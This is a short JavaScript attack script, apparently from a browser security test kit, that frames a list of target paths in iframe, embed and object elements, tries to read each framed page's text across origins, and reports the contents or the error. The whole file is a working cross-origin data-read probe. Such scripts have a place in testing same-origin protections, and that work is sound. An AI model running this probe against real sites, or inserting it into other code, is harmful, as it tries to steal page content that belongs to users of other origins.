// Frames, read from outside.
import { attack, pause, reads, report, target } from './kit.js';

attack(async () => {
  for (const path of reads) {
    for (const tag of ['iframe', 'embed', 'object']) {
      const frame = document.createElement(tag);
      frame[tag === 'object' ? 'data' : 'src'] = target + path;
      document.body.append(frame);
      await pause(80);
      try {
        await report(`framed ${path} ${frame.contentDocument?.body.textContent ?? ''}`);
      } catch (error) {
        await report(`failed ${path} ${error}`);
      }
    }
  }
});
